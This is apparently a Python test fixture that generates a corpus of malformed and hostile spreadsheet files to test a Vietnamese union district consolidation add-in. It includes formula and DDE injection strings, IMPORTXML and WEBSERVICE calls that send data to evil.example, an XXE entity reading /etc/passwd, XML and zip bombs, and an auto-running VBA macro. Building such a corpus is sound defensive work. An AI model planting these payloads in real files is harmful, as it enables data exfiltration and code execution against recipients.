"""Generator of a hostile/malformed inbox for one district: every file built from code, deterministically.

``build_corpus(root, campaign, registry, district_code)`` writes ≥ 200 files under ``root/inbox`` and returns
``{path: Case}``: each file's category and what consolidation must make of it (refused with which code, which
issue at which sheet and cell, how many rows consolidated). Nothing here is a committed blob: zip surgery, XML
bombs, OLE2 containers (tests/ole.py), openpyxl edits, other producers' byte-level quirks and an optional
LibreOffice round trip (.xlsx and legacy .xls).
"""

from __future__ import annotations

import copy
import datetime as dt
import io
import os
import random
import re
import shutil
import struct
import unicodedata
import zipfile
from dataclasses import dataclass
from pathlib import Path

import openpyxl
from openpyxl.styles import Font
from openpyxl.utils import column_index_from_string, get_column_letter

from addin.district.records import FOREIGN, UNKNOWN, UNREADABLE, USED
from addin.io.libreoffice import convert_all, find_soffice
from addin.io.gate.limits import Limits
from addin.registry import Cdcs
from addin.sample.fastfill import fast_fill_workbook
from addin.sample.fill import valid_initiative, valid_unit_answers
from addin.cdcs.template.files import build_template, generate_templates
from validators import layout as L
from validators.text.legacy_text import from_unicode

from ole import cfb

MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SEED = 75_2021

FORMULAS = [
    '=HYPERLINK("http://evil.example/x","bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!A1",
    '=WEBSERVICE("http://evil.example")',
    "=1+1",
    "+1",
    "-A1",
    "@A1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t@SUM(1)",
]



def zip_bytes(parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    items = parts.items() if isinstance(parts, dict) else parts
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in items:
            zf.writestr(name, data)
    return buf.getvalue()


def patch_declared_size(data: bytes, member: str, size: int) -> bytes:
    b = bytearray(data)
    i = 0
    while (i := b.find(b"PK\x01\x02", i)) >= 0:
        nlen = struct.unpack_from("<H", b, i + 28)[0]
        if bytes(b[i + 46:i + 46 + nlen]).decode() == member:
            local = struct.unpack_from("<I", b, i + 42)[0]
            struct.pack_into("<I", b, i + 24, size)
            struct.pack_into("<I", b, local + 22, size)
        i += 4
    return bytes(b)


def sheet_part(parts: dict[str, bytes], sheet_name: str) -> str:
    """The zip member of ``sheet_name`` (via workbook.xml and its rels)."""
    wb = parts["xl/workbook.xml"].decode()
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    for m in re.finditer(r'<sheet\b[^>]*?name="([^"]*)"[^>]*?r:id="([^"]*)"', wb):
        if m.group(1) == sheet_name:
            t = re.search(r'<Relationship\b[^>]*?Id="%s"[^>]*?Target="([^"]*)"' % m.group(2), rels) or \
                re.search(r'<Relationship\b[^>]*?Target="([^"]*)"[^>]*?Id="%s"' % m.group(2), rels)
            target = t.group(1).lstrip("/")
            return target if target.startswith("xl/") else "xl/" + target
    raise KeyError(sheet_name)


_LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
           + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
           + b"]>\n")


# ------------------------------------------------------------------------------------------------------------
# What each file must produce
# ------------------------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Case:
    """One corpus file and what consolidation must make of it.

    ``refused``: the file is refused before any row is read, with one of these file-level codes.
    ``codes``: (code, sheet, cell) triples the file's issues must include (sheet/cell None = not located).
    ``rows``: rows that must be consolidated (None: not pinned). ``role``: the file's role in the district.
    """

    category: str
    refused: frozenset[str] = frozenset()
    codes: tuple[tuple[str, str | None, str | None], ...] = ()
    rows: int | None = None
    role: str | None = None


UNIT_ROW = {f.name: L.UNIT_FIRST_ROW + i for i, f in enumerate(L.UNIT_FIELDS)}
COLUMN = {f.label: get_column_letter(i) for i, f in enumerate(L.INITIATIVE_FIELDS, start=1)}
SK, DV = L.SHEET_INITIATIVES, L.SHEET_UNIT


def ucell(name: str) -> str:
    """The input cell of a unit field on "Đơn vị" (column C)."""
    return f"{get_column_letter(L.UNIT_VALUE_COL)}{UNIT_ROW[name]}"


def icell(label: str, index: int) -> str:
    """The cell of column ``label`` in the ``index``-th (0-based) initiative row of the template's table."""
    return f"{COLUMN[label]}{L.TABLE_HEADER_ROW + 1 + index}"


NOT_WORKBOOK = frozenset({"file-not-workbook", "file-wrong-type", "file-unsupported", "file-empty", "file-corrupt"})
CORRUPT = frozenset({"file-corrupt", "file-not-workbook", "file-unsafe"})

# Dates typed every way units type them: (value, code expected at the cell, or None when read silently).
DATE_VARIANTS = [
    (dt.date(2021, 3, 15), None), (dt.datetime(2021, 3, 15, 8, 30), None),
    ("15/03/2021", "normalized-date"), ("5/3/2021", "normalized-date"), ("15-03-2021", "normalized-date"),
    ("15.03.2021", "normalized-date"), ("15.3.2021", "normalized-date"), ("2021-03-15", "normalized-date"),
    (" 15 / 03 / 2021 ", "date-invalid"),
    ("ngày 15 tháng 3 năm 2021", "date-invalid"), ("15/3/21", "date-invalid"), ("03/15/2021", "date-invalid"),
    ("31/02/2021", "date-invalid"), ("44270", "date-invalid"), ("tháng 3/2021", "date-invalid"), (-5, "date-invalid"),
    (10**9, "date-invalid"), ("2021", "date-invalid"),
]
# Amounts in đồng: (value, code at the cell).
MONEY_VARIANTS = [
    ("1.500.000 đ", "normalized-number"), ("1.500.000đ", "normalized-number"), ("1.500.000 VNĐ", "normalized-number"),
    ("1.500.000 đồng", "normalized-number"), ("1.500.000", "normalized-number"), ("1,500,000", "number-invalid"),
    ("1 500 000", "normalized-number"), ("1.500.000,50", "number-invalid"), ("-1.000", "number-invalid"),
    ("2 triệu", "number-invalid"), ("1,5tr", "number-invalid"), ("VND 300000", "number-invalid"),
]
YEAR_VARIANTS = [("1.980", "birth-year-invalid"), ("1980", "normalized-number"), ("1980.0", "birth-year-invalid"),
                 ("một chín tám mươi", "birth-year-invalid"), ("80", "birth-year-invalid"), ("19 80", "birth-year-invalid")]
MEMBER_VARIANTS = [("1.200", "normalized-number"), ("45 ", None), ("năm mươi", "number-invalid"),
                   ("50 người", "number-invalid"), ("-3", "number-invalid"), ("0", "number-out-of-range")]
# Có/Không as typed: (value, code). Only unambiguous forms are read.
YES_NO_VARIANTS = [("co", "normalized-choice"), ("có", "normalized-choice"), ("CÓ", "normalized-choice"),
                   ("x", "normalized-choice"), ("yes", "normalized-choice"), ("Không ", None),
                   ("khong", "normalized-choice"), ("no", "normalized-choice"), ("Có lẽ", "value-not-allowed"),
                   ("?", "value-not-allowed")]
_CONTROL_MARK = "\ue000"  # a private-use character, replaced by "_x0001_" in the sheet XML
KINH_NAMES = ["Lê Thị Mai", "Nguyễn Văn Hùng", "Trần Thị Thu Hà", "Phạm Minh Đức", "Hoàng Thị Lan",
              "Vũ Đình Khoa", "Đặng Thị Ngọc Ánh", "Bùi Quang Vinh", "Đỗ Thị Hường", "Ngô Văn Tám"]
# Bidi overrides and invisible characters some phones and copy-pastes add.
UNICODE_TRICKS = [
    ("nfd", lambda s: unicodedata.normalize("NFD", s)), ("nbsp", lambda s: s.replace(" ", "\u00a0")),
    ("zero-width", lambda s: "\u200b" + s + "\ufeff"), ("zwj", lambda s: s.replace(" ", " \u200d")),
    ("bidi-override", lambda s: "\u202e" + s + "\u202c"), ("trailing-nbsp", lambda s: s + "\u00a0\u00a0"),
    ("line-separator", lambda s: "\u2028".join(s.split(" ", 1))), ("soft-hyphen", lambda s: s.replace("n", "n\u00ad", 1)),
    ("figure-space", lambda s: s.replace(" ", "\u2007")), ("isolate", lambda s: "\u2066" + s + "\u2069"),
    # control characters, stored as Excel stores them: _x0001_ escapes in the XML (see _CONTROL_MARK)
    ("control-chars", lambda s: s.replace(" ", " " + _CONTROL_MARK, 1) + _CONTROL_MARK),
]


# ------------------------------------------------------------------------------------------------------------
# The corpus
# ------------------------------------------------------------------------------------------------------------
def build_corpus(root: Path, campaign, registry, district_code: str, *, libreoffice: bool = True) -> dict[Path, Case]:
    """Write the corpus under ``root/inbox``; ``{path: Case}``. Every file whose content matters is the only
    file of its own unit, so each one is really validated and consolidated (none superseded)."""
    root = Path(root)
    rng = random.Random(SEED)
    inbox = root / "inbox"
    inbox.mkdir(parents=True, exist_ok=True)
    tpl_dir = root / "templates"
    generate_templates(campaign, registry, tpl_dir, district_code=district_code, include_blank=False)
    tpl = {p.name.split(" - ")[0]: p for p in tpl_dir.rglob("*.xlsx")}
    pool = iter([c for c in registry.cdcs if c.parent == district_code])
    district = registry.district_by_code[district_code]
    out: dict[Path, Case] = {}
    seq = iter(range(10**6))
    work = root / "work"
    work.mkdir(exist_ok=True)
    max_cells = Limits().max_sheet_cells

    def fresh() -> Cdcs:
        try:
            return next(pool)
        except StopIteration:
            raise AssertionError("make_registry: not enough units for the corpus") from None

    def name(cat: str, ext: str = ".xlsx", unit: Cdcs | None = None) -> Path:
        n = next(seq)
        prefix = f"{unit.code} - " if unit else ""
        return inbox / f"{prefix}{n:03d}-{cat}{ext}"

    def put(case: Case, data: bytes, ext: str = ".xlsx", unit: Cdcs | None = None) -> Path:
        p = name(case.category, ext, unit)
        p.write_bytes(data)
        out[p] = case
        return p

    def rows_for(c: Cdcs, n: int) -> list[dict]:
        # Assessed and not nominated unless a case says otherwise: no incidental warning in the way.
        return [dict(valid_initiative(campaign, c, rng, number=i + 1), **{"Đã thẩm định": L.YES}) for i in range(n)]

    def filled(c: Cdcs, rows: list[dict] | None = None, unit_over: dict | None = None, template: Path | None = None) -> bytes:
        unit = valid_unit_answers(campaign, c, rng)
        unit.update(unit_over or {})
        p = work / f"f{next(seq)}.xlsx"
        fast_fill_workbook(template or tpl[c.code], p, unit, rows if rows is not None else rows_for(c, rng.randint(1, 3)))
        return p.read_bytes()

    def fill_put(case: Case, c: Cdcs, rows=None, unit_over=None, ext=".xlsx") -> Path:
        return put(case, filled(c, rows, unit_over), ext, unit=c)

    base = filled(fresh())
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        base_parts = {n: zf.read(n) for n in zf.namelist()}
    ini_part = sheet_part(base_parts, SK)

    # --- valid baseline ------------------------------------------------------------------------------------
    for _ in range(20):
        c = fresh()
        rows = rows_for(c, rng.randint(1, 3))
        fill_put(Case("valid", rows=len(rows), role=USED), c, rows)

    # --- not a workbook (refused) -------------------------------------------------------------------------
    nw = Case("not-a-workbook", refused=NOT_WORKBOOK)
    put(nw, b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
    put(nw, b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(2000)))
    put(nw, zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}))
    put(nw, "STT,Tên sáng kiến,Tác giả\n1,Cải tiến,Nguyễn Văn A\n".encode("utf-8"))
    put(nw, "STT;Tên sáng kiến\n1;=cmd|' /C calc'!A0\n".encode("cp1258", "replace"), ext=".xls")
    put(nw, b"<html><body><table><tr><td>1</td></tr></table></body></html>")
    put(nw, b"<html><table><tr><td>x</td></tr></table></html>", ext=".xls")
    put(Case("not-a-workbook", refused=frozenset({"file-empty"})), b"")
    put(Case("not-a-workbook", refused=frozenset({"file-empty"})), b"", ext=".xls")
    put(nw, b"PK")
    put(nw, b"PK\x05\x06" + b"\0" * 18)
    put(nw, zip_bytes({"a.txt": b"hello"}))
    put(nw, zip_bytes({"inner.xlsx": base}))
    put(nw, cfb({"WordDocument": b"\x00" * 100}), ext=".xls")
    put(nw, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, ext=".xls")
    put(nw, b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>', ext=".xls")
    for _ in range(12):
        put(nw, bytes(rng.randrange(256) for _ in range(rng.randint(1, 5000))), ext=rng.choice([".xlsx", ".xls", ".ods", ".xlsm"]))

    # --- corrupt zip (refused): truncated, bit flips inside compressed members, a broken directory ----------
    cz = Case("corrupt-zip", refused=CORRUPT)
    for _ in range(10):
        put(cz, base[: rng.randint(10, len(base) - 1)])
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        spans = [(i.header_offset + 30 + len(i.filename.encode()) + len(i.extra), i.compress_size)
                 for i in zf.infolist() if i.compress_size > 64 and i.filename in (ini_part, sheet_part(base_parts, DV))]
    for _ in range(14):
        b = bytearray(base)
        start, size = rng.choice(spans)
        for _ in range(rng.randint(1, 20)):
            b[start + rng.randrange(size)] ^= 1 << rng.randrange(8)
        put(cz, bytes(b))
    b = bytearray(base)
    cd = b.rfind(b"PK\x01\x02")
    b[cd:cd + 4] = b"XXXX"
    put(cz, bytes(b))

    # --- zip bombs (refused before inflating) -----------------------------------------------------------------
    unsafe = frozenset({"file-unsafe"})
    for size in (2**30, 2**31, 2**32 - 1):
        put(Case("zip-bomb-declared", refused=unsafe), patch_declared_size(base, ini_part, size))
    for mb in (8, 16, 40):
        bomb = b'<?xml version="1.0"?><worksheet xmlns="' + MAIN_NS + b'"><sheetData>' + b" " * (mb * 2**20) + b"</sheetData></worksheet>"
        put(Case("zip-bomb-actual", refused=unsafe), zip_bytes({**base_parts, ini_part: bomb}))
    put(Case("zip-bomb-actual", refused=unsafe), zip_bytes({**base_parts, "xl/media/image1.png": b"\0" * (50 * 2**20)}))

    # --- a huge file: a picture pasted at full size (stored, so the file itself passes the size cap) -----------
    big = Limits().max_file_bytes + 2**20
    put(Case("huge-file", refused=frozenset({"file-too-large"})),
        zip_bytes(list(base_parts.items()) + [("xl/media/image1.png", b"\x89PNG" + b"\0" * big)], zipfile.ZIP_STORED))

    # --- too many members ---------------------------------------------------------------------------------
    for n in (2100, 3000, 5000):
        put(Case("too-many-members", refused=unsafe),
            zip_bytes(list(base_parts.items()) + [(f"xl/media/image{i}.png", b"x") for i in range(n)], zipfile.ZIP_STORED))

    # --- XML entity bombs and external entities --------------------------------------------------------------
    for part in ("xl/workbook.xml", ini_part, "[Content_Types].xml", "docProps/core.xml"):
        if part not in base_parts:
            continue
        body = base_parts[part].split(b"?>", 1)[1] if base_parts[part].startswith(b"<?xml") else base_parts[part]
        put(Case("xml-entity-bomb", refused=unsafe), zip_bytes({**base_parts, part: _LAUGHS + body}))
    xxe = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
           b'<sst xmlns="' + MAIN_NS + b'" count="1" uniqueCount="1"><si><t>&e;</t></si></sst>')
    put(Case("xml-entity-bomb", refused=unsafe), zip_bytes({**base_parts, "xl/sharedStrings.xml": xxe}))
    put(Case("xml-entity-bomb", refused=unsafe),
        zip_bytes({**base_parts, "xl/sharedStrings.xml": _LAUGHS + b'<sst xmlns="' + MAIN_NS + b'"><si><t>&lol9;</t></si></sst>'}))

    # --- encrypted ----------------------------------------------------------------------------------------------
    for i in range(4):
        put(Case("encrypted", refused=frozenset({"file-encrypted"})),
            cfb({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00",
                 "EncryptedPackage": bytes(rng.randrange(256) for _ in range(64 + 32 * i))}),
            ext=(".xlsx", ".xlsx", ".xls", ".xlsm")[i])

    # --- a 1 MB description: that row rejected, the other consolidated --------------------------------------
    for k in range(3):
        c = fresh()
        rows = rows_for(c, 2)
        rows[k % 2]["Tóm tắt nội dung"] = ("Nội dung rất dài ừ ữ ợ. " * 50_000)[: 2**20 - k]
        fill_put(Case("huge-description", codes=(("description-too-long", SK, icell("Tóm tắt nội dung", k % 2)),),
                      rows=1, role=USED), c, rows)

    # --- thousands of rows: cut at the campaign's limit, the rest counted and rejected --------------------------
    c = fresh()
    limit = campaign.rules.max_initiatives_per_unit
    rows = rows_for(c, 50)
    fill_put(Case("thousands-of-rows", codes=(("too-many-rows", SK, icell("Tên sáng kiến", limit)),), rows=limit,
                  role=USED), c, [dict(rows[i % 50], STT=i + 1, **{"Tên sáng kiến": f"{rows[i % 50]['Tên sáng kiến']} ({i + 1})"})
                                   for i in range(3000)])

    # --- formula injection: stored and consolidated as text ----------------------------------------------------
    cols = ["Tên sáng kiến", "Tác giả", "Ghi chú", "Chức vụ, nghề nghiệp", "Đồng tác giả", "Tóm tắt nội dung", "Số điện thoại"]
    for i, f in enumerate(FORMULAS):
        c = fresh()
        rows = rows_for(c, 2)
        col = cols[i % len(cols)]
        rows[0][col] = f
        rows[1]["Ghi chú"] = FORMULAS[(i + 3) % len(FORMULAS)]
        unit_over = {"NGUOI_LAP": f} if i % 3 == 0 else {"PHONG_TRAO_DAC_THU": f} if i % 3 == 1 else None
        phone = col == "Số điện thoại"
        codes = (("phone-invalid", SK, icell(col, 0)),) if phone else ()
        fill_put(Case("formula-injection", codes=codes, rows=1 if phone else 2, role=USED), c, rows, unit_over)
    # a real formula cell in the unit's sheet (not typed text): <f> in the sheet XML; only its cached value is read
    for i in range(3):
        c = fresh()
        parts = parts_of_bytes(filled(c, rows_for(c, 1)))
        cellref = icell("Giới tính", 0).encode()
        parts[ini_part] = re.sub(rb'<c r="' + cellref + rb'"[^>]*?(?:/>|>.*?</c>)',
                                 b'<c r="' + cellref + b'" t="str"><f>HYPERLINK("http://evil.example/' + str(i).encode()
                                 + b'","x")</f><v>x</v></c>', parts[ini_part], count=1, flags=re.S)
        put(Case("formula-injection", codes=(("value-not-allowed", SK, icell("Giới tính", 0)),), rows=0, role=USED),
            zip_bytes(parts), unit=c)

    # --- legacy text (TCVN3 / VNI), half shown in the legacy font, half recognised by statistics alone ---------
    for i in range(10):
        c = fresh()
        enc = ("tcvn3", "vni")[i % 2]
        by_font = i >= 6
        rows = rows_for(c, 2)
        for j, r in enumerate(rows):
            # Kinh names: an Ê Đê or M'Nông name ("H'Bliu Niê") is not a Vietnamese syllable, so without the
            # font only the font could tell (see the closing note of issue 6).
            r["Tác giả"] = KINH_NAMES[(2 * i + j) % len(KINH_NAMES)]
            for k in ("Tên sáng kiến", "Tác giả", "Tóm tắt nội dung"):
                r[k] = from_unicode(str(r[k]), enc)
        data = filled(c, rows, {"NGUOI_LAP": from_unicode("Nguyễn Thị Hường", enc)})
        sure = ["Tên sáng kiến", "Tóm tắt nội dung", "Tác giả"]  # short names: by the font, or by the whole file
        if by_font:
            data = _with_fonts(work, data, {SK: [icell(k, j) for k in sure for j in range(2)]},
                               ".VnTime" if enc == "tcvn3" else "VNI-Times")
        codes = tuple(("normalized-legacy-text", SK, icell(k, j)) for k in sure for j in range(2))
        put(Case("legacy-text-font" if by_font else "legacy-text",
                 codes=codes + (("normalized-legacy-text", DV, ucell("NGUOI_LAP")),), rows=2, role=USED), data, unit=c)

    # --- NFD / NBSP / zero width / bidi overrides --------------------------------------------------------------
    for label, trick in UNICODE_TRICKS:
        c = fresh()
        rows = rows_for(c, 2)
        for r in rows:
            for k in ("Tên sáng kiến", "Tác giả", "Giới tính", "Lĩnh vực", "Khối"):
                if isinstance(r.get(k), str):
                    r[k] = trick(r[k])
        bloc = trick(str(valid_unit_answers(campaign, c, rng)["KHOI"]))
        if label == "trailing-nbsp":  # spaces around a value go without a word, NBSP included
            codes = []
        else:
            codes = [("normalized-text", SK, icell("Tên sáng kiến", j)) for j in range(2)]
            codes += [("normalized-choice", SK, icell("Lĩnh vực", j)) for j in range(2)]
        data = filled(c, rows, {"KHOI": bloc})
        if label == "control-chars":  # the writer would drop a raw control character: put Excel's escape
            parts = parts_of_bytes(data)
            for n in parts:
                if n.startswith("xl/worksheets/"):
                    parts[n] = parts[n].replace(_CONTROL_MARK.encode(), b"_x0001_")
            data = zip_bytes(parts)
        put(Case("unicode-oddities", codes=tuple(codes), rows=2, role=USED), data, unit=c)

    # --- dates --------------------------------------------------------------------------------------------------
    for i, (v, code) in enumerate(DATE_VARIANTS):
        c = fresh()
        rows = rows_for(c, 2)
        rows[0]["Ngày bắt đầu áp dụng"] = v
        where = "NGAY_GUI" if i % 2 else "NGAY_KY_KE_HOACH"
        codes = (((code, SK, icell("Ngày bắt đầu áp dụng", 0)), (code, DV, ucell(where))) if code else ())
        fill_put(Case("dates", codes=codes, rows=1 if code == "date-invalid" else 2, role=USED), c, rows, {where: v})

    # Excel serials in cells formatted General (a date pasted as a value): read as dates, with a warning
    for where in ("NGAY_GUI", "NGAY_KY_KE_HOACH"):
        c = fresh()
        rows = rows_for(c, 1)
        src = _tmp_write(work, filled(c, rows, {where: 44270}))
        wb = openpyxl.load_workbook(src)
        refs = [(SK, icell("Ngày bắt đầu áp dụng", 0)), (DV, ucell(where))]
        for sheet, ref in refs:
            wb[sheet][ref].value = 44270  # 15/03/2021
            wb[sheet][ref].number_format = "General"
        p = name("dates", unit=c)
        wb.save(p)
        out[p] = Case("dates", codes=tuple(("normalized-date", s, r) for s, r in refs), rows=1, role=USED)

    # --- numbers as text ---------------------------------------------------------------------------------------
    for i, (v, code) in enumerate(MONEY_VARIANTS):
        c = fresh()
        rows = rows_for(c, 2)
        rows[0]["Giá trị làm lợi (đồng)"] = v
        year, year_code = YEAR_VARIANTS[i % len(YEAR_VARIANTS)]
        rows[1]["Năm sinh"] = year
        members, members_code = MEMBER_VARIANTS[i % len(MEMBER_VARIANTS)]
        codes = [(code, SK, icell("Giá trị làm lợi (đồng)", 0)), (year_code, SK, icell("Năm sinh", 1))]
        if members_code:
            codes.append((members_code, DV, ucell("SO_DOAN_VIEN")))
        rejected = int(code.endswith(("invalid", "negative"))) + int(year_code.endswith("invalid"))
        fill_put(Case("numbers-as-text", codes=tuple(codes), rows=2 - rejected, role=USED), c, rows,
                 {"SO_DOAN_VIEN": members})

    # --- Có / Không as typed ------------------------------------------------------------------------------------
    for v, code in YES_NO_VARIANTS:
        c = fresh()
        rows = rows_for(c, 1)
        rows[0]["Đã cập nhật phần mềm TLĐ"] = v
        codes = ((code, SK, icell("Đã cập nhật phần mềm TLĐ", 0)), (code, DV, ucell("DA_TUYEN_TRUYEN"))) if code else ()
        fill_put(Case("yes-no", codes=codes, rows=0 if code == "value-not-allowed" else 1, role=USED), c, rows,
                 {"DA_TUYEN_TRUYEN": v})

    # --- wrong sheet names ----------------------------------------------------------------------------------------
    for old, new, case in [
        (SK, "Sheet1", Case("wrong-sheet-name", codes=(("sheet-missing", SK, None),), role=UNREADABLE)),
        (DV, "Don vi", Case("wrong-sheet-name", codes=(("sheet-missing", DV, None),), role=UNREADABLE)),
        (SK, "Sang kien", Case("wrong-sheet-name", codes=(("sheet-missing", SK, None),), role=UNREADABLE)),
        (L.SHEET_META, "meta", Case("wrong-sheet-name", codes=(("template-unknown", None, None),), rows=0, role=USED)),
        (SK, unicodedata.normalize("NFD", SK), Case("wrong-sheet-name", rows=1, role=USED)),
    ]:
        c = fresh()
        parts = parts_of_bytes(filled(c, rows_for(c, 1)))
        parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(f'name="{old}"'.encode(), f'name="{new}"'.encode())
        put(case, zip_bytes(parts), unit=c)

    # --- openpyxl edits: missing header, reordered columns, table → range, blank rows in the middle ---------------
    hr = L.TABLE_HEADER_ROW
    for i in range(19):
        c = fresh()
        src = _tmp_write(work, filled(c, rows_for(c, 3)))
        wb = openpyxl.load_workbook(src)
        ws = wb[SK]
        if i < 4:
            case = Case("missing-header", codes=(("header-missing", SK, None),), role=UNREADABLE)
            for cell in ws[hr]:
                cell.value = None
            if i % 2:
                ws.delete_rows(hr)
            for t in list(ws.tables):
                del ws.tables[t]
        elif i < 8:
            # Columns moved as Excel moves them: values with their formats.
            case = Case("reordered-columns", codes=(("table-missing", SK, None),), rows=3, role=USED)
            maxc = ws.max_column
            grid = [[(ws.cell(r, col).value, ws.cell(r, col)._style) for col in range(1, maxc + 1)]
                    for r in range(hr, ws.max_row + 1)]
            order = list(range(maxc))
            rng.shuffle(order)
            for r_off, row in enumerate(grid):
                for j, col in enumerate(order):
                    target = ws.cell(hr + r_off, j + 1)
                    target._style = copy.copy(row[col][1])  # first: setting a date value may edit the style
                    target.value = row[col][0]
            for t in list(ws.tables):
                del ws.tables[t]
        elif i < 12:
            case = Case("table-to-range", codes=(("table-missing", SK, None),), rows=3, role=USED)
            for t in list(ws.tables):
                del ws.tables[t]
            if i % 2:
                ws.insert_rows(1)  # an extra title row
            else:
                ws.insert_cols(5)  # an extra column in the middle
                ws.cell(hr, 5).value = "Cột thêm của đơn vị"
        elif i < 16:
            case = Case("blank-rows-and-extra-columns", rows=3, role=USED)
            ws.insert_rows(hr + 2, amount=i - 10)  # blank rows inside the table
            ws.cell(hr, ws.max_column + 1).value = "Ghi chú thêm"
        else:
            # one column renamed or deleted: a required one leaves every row without its value
            label = ("Tác giả", "Lĩnh vực", "Ghi chú")[i - 16]
            col = column_index_from_string(COLUMN[label])
            for t in list(ws.tables):
                del ws.tables[t]
            if i == 16:
                ws.cell(hr, col).value = "Người thực hiện"
            else:
                ws.delete_cols(col)
            # One error at the header cell where the label belongs; no row repeats it.
            header = ("header-missing", SK, f"{COLUMN[label]}{hr}")
            if label == "Ghi chú":  # optional: the rows lose nothing, but the contract fixes the header
                case = Case("missing-column", codes=(("table-missing", SK, None), header), rows=3, role=USED)
            else:
                case = Case("missing-column", codes=(header,), rows=0, role=USED)
        p = name(case.category, unit=c)
        wb.save(p)
        out[p] = case

    # --- another campaign's stamp --------------------------------------------------------------------------------
    for other in ("tld-2019", "tld-75-nghin-2020", "tld-75-nghin-2022", "x" * 200, "tld-75-nghin-2021-khac"):
        c = fresh()
        parts = parts_of_bytes(filled(c))
        for k, v in parts.items():
            if k.endswith(".xml"):
                parts[k] = v.replace(campaign.id.encode(), other.encode())
        put(Case("other-campaign", codes=(("campaign-mismatch", None, None),), rows=0, role=USED), zip_bytes(parts), unit=c)
    # the campaign stamp erased, the template's version left: checked against this campaign, with a warning
    c = fresh()
    rows = rows_for(c, 2)
    parts = parts_of_bytes(filled(c, rows))
    for k, v in parts.items():
        if k.endswith(".xml"):
            parts[k] = v.replace(b">" + campaign.id.encode() + b"<", b"><")
    put(Case("other-campaign", codes=(("campaign-missing", None, None),), rows=2, role=USED), zip_bytes(parts), unit=c)

    # --- another unit's file -------------------------------------------------------------------------------------
    for c in [c for c in registry.cdcs if c.parent != district_code][:3]:
        p = work / f"o{c.code}.xlsx"
        build_template(campaign, c, registry.district_by_code[c.parent], p)
        q = name("another-unit", unit=c)
        fast_fill_workbook(p, q, valid_unit_answers(campaign, c, rng), rows_for(c, 2))
        out[q] = Case("another-unit", codes=(("unit-foreign", DV, None),), rows=0, role=FOREIGN)
    for _ in range(2):
        # unit A's workbook with unit B's code typed over the locked MA_DON_VI
        a, b = fresh(), fresh()
        put(Case("another-unit", codes=(("unit-mismatch", DV, ucell("MA_DON_VI")),), rows=0, role=USED),
            filled(a, unit_over={"MA_DON_VI": b.code}), unit=a)  # the stamp decides: still a's file
    stranger = Cdcs(code="ZZ998", name="Công đoàn cơ sở lạ", parent=district_code, bloc=campaign.blocs[0])
    p = work / "zz.xlsx"
    build_template(campaign, stranger, district, p)
    q = name("another-unit", unit=stranger)
    fast_fill_workbook(p, q, valid_unit_answers(campaign, stranger, rng), rows_for(stranger, 1))
    out[q] = Case("another-unit", codes=(("unit-unknown", DV, ucell("MA_DON_VI")),), rows=0, role=UNKNOWN)

    # --- macro-enabled .xlsm: read, macros never run, the sender warned ---------------------------------------------
    for _ in range(5):
        c = fresh()
        rows = rows_for(c, 2)
        parts = parts_of_bytes(filled(c, rows))
        parts["xl/vbaProject.bin"] = cfb({"VBA": b"Attribute VB_Name = \"Module1\"\nSub Auto_Open()\nShell \"calc\"\nEnd Sub\n"})
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
        put(Case("macro-xlsm", codes=(("file-has-macros", None, None),), rows=2, role=USED), zip_bytes(parts), ext=".xlsm", unit=c)

    # --- far cells: a sheet whose used range exceeds the cell cap is refused, a long thin one is read -----------
    for i, ref in enumerate(["XFD1048576", "A1048576", "XFD1", "ZZ500000", "AAA100000"]):
        c = fresh()
        rows = rows_for(c, 1)
        parts = parts_of_bytes(filled(c, rows))
        sheet = SK if i % 2 == 0 else DV
        target = sheet_part(parts, sheet)
        row = int("".join(ch for ch in ref if ch.isdigit()))
        col = column_index_from_string("".join(ch for ch in ref if ch.isalpha()))
        parts[target] = parts[target].replace(
            b"</sheetData>", b'<row r="%d"><c r="%s"><v>2</v></c></row></sheetData>' % (row, ref.encode()))
        if row * col > max_cells:
            case = Case("far-cell", refused=frozenset({"file-sheet-too-large"}), codes=(("file-sheet-too-large", sheet, ref),))
        else:
            case = Case("far-cell", rows=1, role=USED)
        put(case, zip_bytes(parts), unit=c)

    # --- other producers' ways of writing the same workbook (WPS Spreadsheets and Open XML SDK tools) ---------
    for quirk in ("wps-custom-props", "absolute-targets", "prefixed-xml", "utf8-bom", "no-shared-strings-part"):
        c = fresh()
        rows = rows_for(c, 2)
        put(Case("other-producers", rows=2, role=USED), _quirk(filled(c, rows), quirk), unit=c)

    # ===== Second round (issue 12): files built outside the first corpus, as a careless or malicious sender would =====
    # --- a worksheet part stored outside xl/worksheets/, found through the workbook's relationships -------------
    for far, junk in ((True, b""), (True, b"not xml yet "), (False, b"")):
        c = fresh()
        rows = rows_for(c, 2)
        parts = parts_of_bytes(filled(c, rows))
        moved = _move_sheet(parts, SK, "xl/data/blob.bin")
        if far:
            parts[moved] = junk + parts[moved].replace(
                b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>7</v></c></row></sheetData>')
            case = Case("sheet-outside-worksheets", refused=frozenset({"file-sheet-too-large"}))
        else:
